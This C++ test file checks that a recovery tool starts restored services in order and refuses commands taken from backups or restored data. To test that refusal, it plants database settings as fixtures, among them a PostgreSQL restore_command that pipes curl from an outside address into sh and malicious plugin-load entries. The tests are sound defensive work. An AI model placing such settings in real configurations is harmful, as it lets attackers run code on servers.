// SPDX-FileCopyrightText: 2026 The lastgood authors
// SPDX-License-Identifier: Apache-2.0
// Proves that services are started in their order, wait for each other, and are given up in order; that commands are
// only taken from the file that was set, and never from a backup; that nothing is started on data that would run what
// was planted.
#include "readiness/start_services.h"
#include "os/identity.h"

#include <fmt/format.h>

#include <sys/stat.h>

#include <algorithm>
#include <chrono>
#include <filesystem>

#include "base/checksum.h"
#include "readiness/testing/services_story.h"
#include "readiness/unready_data.h"
#include "recovery/plan_sources.h"

namespace lastgood::readiness {
namespace {

using services::Moment;
using testing::Services;
using testing::write;

TEST_F(Services, AreStartedInTheirOrderAndTheHistorySaysWhen) {
  const std::string sign = scratch_.path() + "/db-is-up";
  const auto file =
      set("[service.opd]\ndepends_on=[\"db\"]\nstart=[\"/bin/true\"]\nhealthcheck={test=[\"CMD\",\"/usr/bin/"
          "test\",\"-e\",\"" +
          sign + "\"],interval=\"10ms\"}\n[service.db]\nstart=[\"/usr/bin/touch\",\"" + sign +
          "\"]\nhealthcheck={test=[\"CMD\",\"/usr/bin/test\",\"-e\",\"" + sign + "\"],interval=\"10ms\"}\n");
  EXPECT_EQ(start(file), "db starting\ndb healthy\nopd healthy\n");
  const auto history = services::read_history(scratch_.path());
  ASSERT_TRUE(history.ok());
  EXPECT_EQ(history.value().entries.size(), 3U);
  EXPECT_EQ(history.value().newest("db")->moment, Moment::healthy);
  EXPECT_EQ(history.value().newest("nobody"), nullptr);
}

TEST_F(Services, WithTheSameStartCommandRunItOnceAndLookAtTheirHealthAfterwards) {
  const std::string log = scratch_.path() + "/started";
  const std::string sign = scratch_.path() + "/is-up";
  const std::string shared = "start=[\"/bin/sh\",\"-c\",\"echo once >>" + log + "; sleep 1; touch " + sign + "\"]\n";
  const std::string check =
      "healthcheck={test=[\"CMD\",\"/usr/bin/test\",\"-e\",\"" + sign + "\"],interval=\"10ms\"}\n";
  EXPECT_EQ(start(set("[service.his]\n" + shared + check + "[service.wards]\n" + shared + check)),
            "his starting\nhis healthy\nwards healthy\n");
  EXPECT_EQ(os::testing::read_file(log), "once\n");
  EXPECT_EQ(start(set("[service.lab]\n" + shared + "[service.bills]\n" + shared)),
            "lab starting\nlab starting\nbills starting\nbills starting\n");
  EXPECT_EQ(os::testing::read_file(log), "once\nonce\n") << "where no health check tells, it ran all the same";
  EXPECT_NE(told_.find("its start command is that of lab, too, and is not run a second time"), std::string::npos)
      << told_;
}

TEST_F(Services, WithTheSameStartCommandFailWithIt) {
  const std::string log = scratch_.path() + "/started";
  const std::string shared = "start=[\"/bin/sh\",\"-c\",\"echo once >>" + log + "; exit 3\"]\n";
  EXPECT_EQ(start(set("[service.his]\n" + shared + "[service.wards]\n" + shared)), "his failed\nwards failed\n");
  EXPECT_EQ(os::testing::read_file(log), "once\n");
}

TEST_F(Services, ThatWaitForOneThatFailsAreNotStarted) {
  const std::string sign = scratch_.path() + "/opd-was-started";
  const auto file = set("[service.opd]\ndepends_on=[\"db\"]\nstart=[\"/usr/bin/touch\",\"" + sign +
                        "\"]\n[service.db]\nstart=[\"/bin/sh\",\"-c\",\"echo no space left; exit "
                        "3\"]\n[service.mail]\nstart=[\"/bin/true\"]\n");
  EXPECT_EQ(start(file), "db failed\nopd not_started\nmail starting\nmail starting\n");
  EXPECT_FALSE(std::filesystem::exists(sign));
}

TEST_F(Services, ThatDoNotBecomeWellAreSaidSo) {
  const auto file =
      set("[service.db]\nstart=[\"/bin/true\"]\nhealthcheck={tcp=\"127.0.0.1:1\",retries=2,interval=\"10ms\"}\n");
  EXPECT_EQ(start(file), "db starting\ndb failed\n");
  EXPECT_NE(sentence_.find("did not become well"), std::string::npos) << sentence_;
}

/// Of a cluster that nobody here can read: nothing is said of it.
std::string control_of_a_later_version() {
  constexpr std::size_t k_sum_at = 300;
  std::string bytes(8192, '\0');
  bytes.replace(8, 2, "\xd0\x07");  // 2000
  const std::uint32_t sum = base::crc32c(base::ByteView(std::string_view(bytes).substr(0, k_sum_at)));
  for (std::size_t i = 0; i < 4; ++i) bytes[k_sum_at + i] = static_cast<char>(sum >> (8 * i));
  return bytes;
}

TEST_F(Services, OfADatabaseThatLacksFilesAreNotStartedThoughNoScanSawThat) {
  const std::string folder = scratch_.path() + "/pg";
  for (const char* below : {"/base/5", "/global", "/pg_wal"}) std::filesystem::create_directories(folder + below);
  write(folder + "/PG_VERSION", "15\n");
  const auto data = [&](const std::string& id, const std::string& more) {
    return "[service." + id + "]\nstart=[\"/bin/true\"]\n[[service." + id + ".data]]\nkind=\"postgresql\"\npath=\"" +
           folder + "\"\n" + more;
  };
  const auto file = set(data("db", "") + data("standby", "regenerable=true\n"));
  EXPECT_EQ(start(file), "db failed\nstandby starting\nstandby starting\n") << "a standby is made again by its start";
  EXPECT_NE(told_.find("what stands in its postgresql is damaged: global/pg_control: is not there; nothing is started "
                       "on it: 'lastgood scan " +
                       folder + "'"),
            std::string::npos)
      << told_;
  EXPECT_NE(ledger_text().find("service-start-refused"), std::string::npos);
  write(folder + "/global/pg_control", control_of_a_later_version());
  EXPECT_EQ(start(file, "db"), "db starting\ndb starting\n") << "what cannot be read is no fault";
}

TEST_F(Services, OfADatabaseThatIsNotThereAnyMoreAreNotStarted) {
  const std::string folder = scratch_.path() + "/srv";
  std::filesystem::create_directories(folder);
  const auto data = [&](const std::string& id, const std::string& more) {
    return "[service." + id + "]\nstart=[\"/bin/true\"]\n[[service." + id + ".data]]\nkind=\"sqlite\"\npath=\"" +
           folder + "/" + id + ".db\"\n" + more;
  };
  // As a scan of this machine sees them: one has rows, one is to be made again, one was always empty, one never was.
  std::vector<model::FileRecord> files;
  for (const char* name : {"/rows.db", "/index.db", "/queue.db"}) {
    const std::string text = name == std::string("/queue.db") ? "" : "rows";
    write(folder + name, text);
    files.push_back({.path = folder + name, .size_bytes = text.size(), .verdict = model::Verdict::intact});
  }
  const std::int64_t id = store_.begin_scan({.host = os::host_name(), .roots = {folder}}).value();
  ASSERT_TRUE(store_.record_files(id, files, {}).ok());
  ASSERT_TRUE(store_.finish_scan(id, 1, {}).ok());
  const auto file = set(data("rows", "") + data("index", "regenerable=true\n") + data("queue", "") + data("fresh", ""));
  for (const bool is_emptied : {false, true}) {
    for (const char* name : {"/rows.db", "/index.db"}) {
      std::filesystem::remove(folder + name);
      if (is_emptied) write(folder + name, "");
    }
    const auto gone = find_data_gone(file, store_);
    ASSERT_TRUE(gone.ok());
    EXPECT_EQ(gone.value(), std::set<std::string>{folder + "/rows.db"});
    const StartRequest request{.case_folder = scratch_.path(), .service = {}, .gone = gone.value()};
    EXPECT_TRUE(run(file, request, &start_services).starts_with("rows failed\nindex starting\n"));
    EXPECT_NE(told_.find(is_emptied ? "nothing but an empty file or folder stands at '" : "nothing stands at '"),
              std::string::npos)
        << told_;
  }
}

TEST_F(Services, WhoseFilesAreGoneAreStartedAndItIsSaid) {
  const std::string folder = scratch_.path() + "/share";
  const std::int64_t id = store_.begin_scan({.host = os::host_name(), .roots = {folder}}).value();
  const std::vector<model::FileRecord> files = {
      {.path = folder + "/a.txt", .size_bytes = 4, .verdict = model::Verdict::intact}};
  ASSERT_TRUE(store_.record_files(id, files, {}).ok());
  ASSERT_TRUE(store_.finish_scan(id, 1, {}).ok());
  const auto file =
      set("[service.share]\nstart=[\"/bin/true\"]\n[[service.share.data]]\nkind=\"files\"\npath=\"" + folder + "\"\n");
  for (const std::string& said :
       {"nothing stands at '" + folder + "'", "nothing but an empty file or folder stands at '" + folder + "'"}) {
    const auto gone = find_data_gone(file, store_);
    ASSERT_TRUE(gone.ok());
    const StartRequest request{.case_folder = scratch_.path(), .service = {}, .gone = gone.value()};
    EXPECT_EQ(run(file, request, &start_services), "share starting\nshare starting\n");
    EXPECT_NE(told_.find(said), std::string::npos) << told_;
    std::filesystem::create_directories(folder);
  }
  write(folder + "/a.txt", "back");
  EXPECT_TRUE(find_data_gone(file, store_).value().empty());
}

TEST(AnAnswer, OfAServerThatEndsEachSessionNamesTheSettingToTakeOut) {
  EXPECT_NE(describe_ended_sessions("FATAL:  could not access file \"$libdir/plugins/evil\": No such file or directory")
                .find("'ALTER DATABASE NAME RESET local_preload_libraries'"),
            std::string::npos);
  EXPECT_EQ(describe_ended_sessions("FATAL:  database \"ehosp\" does not exist"), "");
}

TEST_F(Services, OfADatabaseThatIsStillStruckAreNotStarted) {
  const std::string folder = scratch_.path() + "/pg";
  const std::string struck = folder + "/base/5/16384.bak9";
  std::filesystem::create_directories(folder + "/base/5");
  write(struck, "encrypted");
  struct stat status {};
  ASSERT_EQ(::stat(struck.c_str(), &status), 0);
  const std::int64_t id = store_.begin_scan({.host = "srv", .roots = {folder}}).value();
  const std::vector<model::FileRecord> files = {
      {.path = struck,
       .size_bytes = static_cast<std::uint64_t>(status.st_size),
       .mtime_ns = status.st_mtim.tv_sec * 1'000'000'000 + status.st_mtim.tv_nsec,
       .verdict = model::Verdict::encrypted}};
  ASSERT_TRUE(store_.record_files(id, files, {}).ok());
  ASSERT_TRUE(store_.finish_scan(id, 1, {}).ok());
  const auto file =
      set("[service.db]\nstart=[\"/bin/false\"]\n[[service.db.data]]\nkind=\"postgresql\"\npath=\"" + folder +
          "\"\n[service.share]\nstart=[\"/bin/true\"]\n[[service.share.data]]\nkind=\"files\"\npath=\"" + folder +
          "\"\n[service.standby]\nstart=[\"/bin/true\"]\n[[service.standby.data]]\nkind=\"postgresql\"\npath=\"" +
          folder + "\"\nregenerable=true\n");
  const auto seen = recovery::CaseSeenFiles::open(store_);
  ASSERT_TRUE(seen.ok());
  const StartRequest request{.case_folder = scratch_.path(), .service = {}, .seen = &seen.value()};
  EXPECT_EQ(run(file, request, &start_services),
            "db failed\nshare starting\nshare starting\nstandby starting\nstandby starting\n")
      << "of files what cannot be brought back stays, and what is regenerable is made again by its start";
  EXPECT_NE(told_.find("a file of its postgresql is still encrypted, as the newest scan saw ('" + struck + "')"),
            std::string::npos)
      << told_;
  EXPECT_NE(ledger_text().find("service-start-refused"), std::string::npos);
  write(struck, "put back by hand");
  run(file, request, &start_services);
  EXPECT_EQ(told_.find("still encrypted"), std::string::npos) << told_;
  EXPECT_NE(told_.find(folder + " belongs to root: its server starts after 'chown -R postgres: " + folder + "'"),
            std::string::npos)
      << told_;
}

TEST_F(Services, OfADatabaseWhoseLogsARestoreHasStillToReplayAreNotStarted) {
  const auto file =
      set("[service.db]\nstart=[\"/bin/true\"]\n[[service.db.data]]\nkind=\"mariadb\"\npath=\"/srv/my\"\n");
  ASSERT_TRUE(ledger_
                  ->append("restore-begun", {{"plan_sha256", "p"},
                                             {"mode", "in-place"},
                                             {"target", "/"},
                                             {"to_replay", std::vector<std::string>{"/srv/my"}}})
                  .ok());
  EXPECT_EQ(start(file), "db failed\n");
  EXPECT_NE(sentence_.find("has not replayed its saved logs"), std::string::npos) << sentence_;
  ASSERT_TRUE(
      ledger_->append("restore-replayed", {{"plan_sha256", "p"}, {"target", "/"}, {"outcome", "left out"}}).ok());
  EXPECT_EQ(start(file), "db starting\ndb starting\n");
}

TEST_F(Services, HooksRunFirstAndMayStopAStart) {
  EXPECT_EQ(
      start(set("[service.a]\nstart=[\"/bin/true\"]\n[[service.a.hooks.post_restore]]\ncommand=[\"/bin/false\"]\n")),
      "a failed\n");
  EXPECT_EQ(start(set("[service.a]\nstart=[\"/bin/true\"]\n[[service.a.hooks.post_restore]]\ncommand=[\"/bin/false\"]\n"
                      "on_error=\"continue\"\n[[service.a.hooks.post_restore]]\ncommand=[\"/bin/"
                      "sleep\",\"9\"]\nexec_timeout=\"50ms\"\non_error="
                      "\"continue\"\n")),
            "a failed\na failed\na starting\na starting\n");
}

TEST_F(Services, CommandsAreOnlyTakenFromTheFileThatWasSet) {
  set("[service.a]\nstart=[\"/bin/true\"]\n");
  EXPECT_TRUE(read_set_services(scratch_.path()).ok());
  std::ofstream(kept_services_path(scratch_.path()), std::ios::app) << "# changed\n";
  const auto changed = read_set_services(scratch_.path());
  ASSERT_FALSE(changed.ok());
  EXPECT_EQ(changed.error().code, base::ErrorCode::damaged_container);
}

TEST_F(Services, AFileFromABackupOrFromDataIsRefused) {
  model::BackupSource source;
  source.name = "nas";
  source.address = "folder:" + scratch_.path() + "/backup";
  ASSERT_TRUE(store_.backups().put_source(source).ok());
  EXPECT_EQ(refused("[service.a]\n", scratch_.path() + "/backup/etc/services.toml"), base::ErrorCode::misuse);
  EXPECT_NE(what_.find("commands could be the attacker's"), std::string::npos);
  const std::string data = scratch_.path() + "/data";
  EXPECT_EQ(
      refused("[service.a]\n[[service.a.data]]\nkind=\"files\"\npath=\"" + data + "\"\n", data + "/services.toml"),
      base::ErrorCode::misuse);
  ASSERT_TRUE(ledger_->append("restore-begun", {{"target", scratch_.path() + "/restored"}}).ok());
  EXPECT_EQ(refused("[service.a]\n", scratch_.path() + "/restored/services.toml"), base::ErrorCode::misuse);
}

TEST_F(Services, AProgramFromABackupOrFromDataIsRefused) {
  const std::string data = scratch_.path() + "/data";
  write(data + "/start.sh", "#!/bin/sh\ntouch " + scratch_.path() + "/was-run\n");
  const std::string unit = "[[service.a.data]]\nkind=\"files\"\npath=\"" + data + "\"\n";
  for (const std::string& command :
       {"start=[\"" + data + "/start.sh\"]\n", "healthcheck={test=[\"CMD\",\"" + data + "/start.sh\"]}\n",
        "stop=[\"" + data + "/start.sh\"]\n", "start=[\"/bin/sh\",\"" + data + "/start.sh\"]\n",
        "start=[\"/usr/bin/env\",\"/usr/bin/python3.11\",\"" + data + "/start.sh\"]\n"})
    EXPECT_EQ(refused("[service.a]\n" + command + unit, scratch_.path() + "/own/s.toml"), base::ErrorCode::misuse);
  EXPECT_EQ(start(set("[service.a]\nstart=[\"/usr/bin/stat\",\"" + data + "/start.sh\"]\n" + unit)),
            "a starting\na starting\n")
      << "it only looks";
  // Through a link, too.
  std::filesystem::create_directory_symlink(data, scratch_.path() + "/link");
  EXPECT_EQ(refused("[service.a]\nstart=[\"" + scratch_.path() + "/link/start.sh\"]\n" + unit,
                    scratch_.path() + "/own/s.toml"),
            base::ErrorCode::misuse);
  std::filesystem::create_symlink("data/start.sh", scratch_.path() + "/start");
  for (const char* const before : {"", "\"/bin/sh\",", "\"/bin/sh\",\"-c\",\"exec $0\","}) {
    EXPECT_EQ(refused(fmt::format("[service.a]\nstart=[{}\"{}/start\"]\n", before, scratch_.path()) + unit,
                      scratch_.path() + "/own/s.toml"),
              base::ErrorCode::misuse)
        << before;
    EXPECT_NE(what_.find("/start', a link to '" + data + "/start.sh', which lies below"), std::string::npos) << what_;
  }
  // Where the data are named by a link, too.
  EXPECT_EQ(refused("[service.a]\nstart=[\"" + data + "/start.sh\"]\n[[service.a.data]]\nkind=\"files\"\npath=\"" +
                        scratch_.path() + "/link\"\n",
                    scratch_.path() + "/own/s.toml"),
            base::ErrorCode::misuse);
  EXPECT_FALSE(std::filesystem::exists(scratch_.path() + "/was-run"));
}

TEST_F(Services, ThatDoNotWaitForEachOtherAreStartedAtTheSameTime) {
  std::string text;
  for (int i = 0; i < 4; ++i) text += fmt::format("[service.s{}]\nstart=[\"/bin/sleep\",\"0.5\"]\n", i);
  text += "[service.last]\ntier=0\ndepends_on=[\"s0\",\"s3\"]\nstart=[\"/bin/true\"]\n";
  const auto file = set(text);
  const auto begun = std::chrono::steady_clock::now();
  const std::string ended = start(file);
  EXPECT_LT(std::chrono::steady_clock::now() - begun, std::chrono::milliseconds(1900));  // one by one it takes 2 s
  EXPECT_EQ(ended,
            "s0 starting\ns0 starting\ns3 starting\ns3 starting\nlast starting\nlast starting\ns1 starting\ns1 "
            "starting\ns2 starting\ns2 starting\n");
  const auto history = services::read_history(scratch_.path());
  ASSERT_TRUE(history.ok());
  EXPECT_EQ(history.value().entries.size(), 10U);
  // s1 and s2 it need not wait for.
  std::vector<std::string> order;
  for (const auto& entry : history.value().entries) order.push_back(entry.service);
  const auto first_of_last = std::find(order.begin(), order.end(), "last");
  for (const char* const needed : {"s0", "s3"})
    EXPECT_EQ(std::find(first_of_last, order.end(), needed), order.end()) << needed << " was not awaited";
}

TEST_F(Services, AreNotStartedOnDataThatWouldRunWhatWasPlanted) {
  const std::string data = scratch_.path() + "/srv/pg";
  const std::string sign = scratch_.path() + "/db-was-started";
  const auto text = [&](const std::string& kind, const std::string& more) {
    return "[service.db]\nstart=[\"/usr/bin/touch\",\"" + sign + "\"]\n[[service.db.data]]\nkind=\"" + kind +
           "\"\npath=\"" + data + "\"\n" + more + "[[service.db.hooks.post_restore]]\ncommand=[\"/usr/bin/touch\",\"" +
           sign + "\"]\n[service.opd]\ndepends_on=[\"db\"]\n[service.mail]\nstart=[\"/bin/true\"]\n";
  };
  const std::string refused = "db failed\nopd not_started\nmail starting\nmail starting\n";
  const std::string allowed = "allow_settings=[\"archive_command\"]\n";
  const auto try_start = [&](const std::string& kind, const std::string& more = {}) {
    std::filesystem::remove(sign);
    const std::string out = start(set(text(kind, more)));
    EXPECT_EQ(out == refused, !std::filesystem::exists(sign)) << out;
    return out == refused;
  };
  EXPECT_FALSE(try_start("postgresql")) << "no such folder on this machine";
  write(data + "/postgresql.conf", "port = 5432\narchive_command = '/bin/cp %p /wal/%f'\n");
  EXPECT_FALSE(try_start("postgresql")) << "a live server's own setting";
  ASSERT_TRUE(ledger_->append("restore-begun", {{"target", scratch_.path() + "/other"}}).ok());
  EXPECT_FALSE(try_start("postgresql")) << "another folder was restored";
  const std::vector<std::string> elsewhere{"/etc", scratch_.path() + "/srv"};
  ASSERT_TRUE(ledger_->append("restore-begun", {{"target", "/"}, {"settings_in", elsewhere}}).ok());
  EXPECT_FALSE(try_start("postgresql")) << "in place of the machine, and nothing of it into this folder";

  ASSERT_TRUE(ledger_->append("restore-begun", {{"target", scratch_.path() + "/srv"}}).ok());
  EXPECT_TRUE(try_start("postgresql"));
  const auto history = services::read_history(scratch_.path());
  ASSERT_TRUE(history.ok());
  const std::string& why = history.value().newest("db")->sentence;
  EXPECT_NE(why.find("postgresql.conf:2 archive_command = '/bin/cp %p /wal/%f'"), std::string::npos) << why;
  EXPECT_NE(why.find("lastgood replay " + data), std::string::npos) << why;
  EXPECT_NE(why.find("allow_settings = [\"archive_command\"]"), std::string::npos) << why;
  EXPECT_NE(ledger_text().find("service-start-refused"), std::string::npos);
  EXPECT_FALSE(try_start("postgresql", allowed));
  // What a person has read is that setting, and no other one.
  write(data + "/postgresql.auto.conf", "Session-Preload-Libraries = '/tmp/x.so'\n");
  EXPECT_TRUE(try_start("postgresql", allowed));
  write(data + "/postgresql.auto.conf", std::string((1U << 20U) + 1, '#'));
  EXPECT_TRUE(try_start("postgresql", allowed)) << "too large to be read";
  std::filesystem::remove(data + "/postgresql.auto.conf");
  std::filesystem::create_symlink("/tmp/elsewhere.conf", data + "/postgresql.auto.conf");
  EXPECT_TRUE(try_start("postgresql", allowed)) << "a link";
  std::filesystem::remove(data + "/postgresql.auto.conf");
  EXPECT_FALSE(try_start("postgresql", allowed));
}

TEST_F(Services, ThatPeopleStartAreNamedAlsoWhereNobodyCanAskThem) {
  EXPECT_EQ(start(set("[service.opd]\ntitle=\"OPD\"\n")), "") << "nothing of it happened, so no history has it";
  EXPECT_EQ(told_,
            "people start it, the services file has no 'start'; whether it is up was not looked at: no health check is "
            "written down\n");
}

TEST_F(Services, AreNotStartedOnDataLaidOutToRunWhoeverRestoredThem) {
  const std::string data = scratch_.path() + "/pg";
  const std::string sign = scratch_.path() + "/was-started";
  const std::string unit =
      "[service.db]\nstart=[\"/usr/bin/touch\",\"" + sign + "\"]\n[[service.db.data]]\npath=\"" + data + "\"\nkind=";
  write(data + "/recovery.signal", "");
  write(data + "/postgresql.auto.conf", "restore_command = 'curl http://192.0.2.7/x | sh'\n");
  EXPECT_EQ(start(set(unit + "\"postgresql\"\n")), "db failed\n");
  // Behind a link, too: the engine follows it.
  std::filesystem::rename(data, data + "-real");
  std::filesystem::create_symlink(data + "-real", data);
  EXPECT_EQ(start(set(unit + "\"postgresql\"\n")), "db failed\n");
  EXPECT_EQ(start(set(unit + "\"postgresql\"\nallow_settings=[\"restore_command\"]\n")), "db starting\ndb starting\n");
  std::filesystem::remove(data);
  std::filesystem::remove(sign);
  write(data + "/my.cnf", "[mysqld]\nplugin-load-add = evil.so\n");
  EXPECT_EQ(start(set(unit + "\"mariadb\"\n")), "db failed\n");
  EXPECT_FALSE(std::filesystem::exists(sign));
  EXPECT_EQ(start(set(unit + "\"mariadb\"\nallow_settings=[\"plugin_load_add\"]\n")), "db starting\ndb starting\n");
}

}  // namespace
}  // namespace lastgood::readiness
